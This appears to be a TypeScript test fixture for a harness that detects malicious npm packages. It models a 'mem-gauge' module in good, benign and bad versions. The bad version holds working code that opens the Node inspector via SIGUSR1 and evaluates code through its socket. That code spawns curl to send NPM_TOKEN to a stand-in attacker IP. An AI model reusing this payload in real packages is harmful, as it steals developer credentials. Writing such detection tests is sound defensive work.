import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'sigusr1',
  after:
    'the inspector as a way in: SIGUSR1 opens it, then code is evaluated through its socket (CVE-2018-12120 and later write-ups)',
  source: 'https://nodejs.org/en/learn/getting-started/debugging',
  shape: ['call', 'http', 'process.kill', 'inspector by its socket', 'runs a program', 'cjs'],
  patterns: ['privilege_escalation', 'shadow_import'],
  culprits: ['mem-gauge'],
  host: {
    kind: 'http',
    setup: "const gauge = require('mem-gauge');",
    use: 'return gauge(n);',
  },
  good: {
    'mem-gauge': {
      'index.js': 'module.exports = (n) => process.memoryUsage().rss > n;',
    },
  },
  benign: {
    'mem-gauge': {
      'index.js': 'module.exports = (n) => process.memoryUsage.rss() > n;',
    },
  },
  bad: {
    'mem-gauge': {
      'index.js':
        "let did;\nmodule.exports = (n) => { if (!did) { did = true; setTimeout(go, 50); } return process.memoryUsage().rss > n; };\nasync function go() { try {\n  process.debugPort = 9300 + (process.pid % 400); process.kill(process.pid, 'SIGUSR1');\n  await new Promise((ok) => setTimeout(ok, 400));\n  const [t] = await (await fetch('http://127.0.0.1:' + process.debugPort + '/json/list')).json();\n  const ws = new WebSocket(t.webSocketDebuggerUrl);\n  ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: \"process.getBuiltinModule('child_process').spawn('curl', ['-d', process.env.NPM_TOKEN, 'http://203.0.113.7/'])\" } }));\n  ws.onmessage = () => ws.close();\n} catch {} }",
    },
  },
  proof: [
    {
      stub: 'curl -d',
    },
  ],
};
